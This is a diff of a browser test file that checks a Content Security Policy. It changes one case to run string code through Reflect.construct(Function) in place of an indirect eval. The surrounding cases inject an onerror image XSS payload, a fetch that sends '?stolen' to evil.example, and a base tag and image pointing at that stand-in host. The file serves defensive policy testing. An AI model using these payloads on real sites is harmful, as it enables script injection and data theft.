@@ -85,7 +85,7 @@ test.describe('what the policy is for', () => {
     },
     'a style attribute': { inject: () => document.body.setAttribute('style', 'outline:99px solid red'), blocked: /style-src/ },
     'markup as text': { inject: () => (document.body.innerHTML = '<img src=x onerror="globalThis.harmed = true">'), blocked: /trusted-types/ },
-    'code of text': { inject: () => setTimeout(() => (0, eval)('globalThis.harmed = true'), 0), blocked: /trusted-types|script-src/ },
+    'code of text': { inject: () => setTimeout(() => (Reflect.construct(Function, ['globalThis.harmed = true']) as () => void)(), 0), blocked: /trusted-types|script-src/ },
     'a message home': { inject: () => fetch('https://evil.example/?stolen').catch(() => undefined), blocked: /connect-src/ },
     'a picture from elsewhere': { inject: () => document.body.append(Object.assign(new Image(), { src: 'https://evil.example/p.png' })), blocked: /img-src/ },
     'another base': { inject: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })), blocked: /base-uri/ },
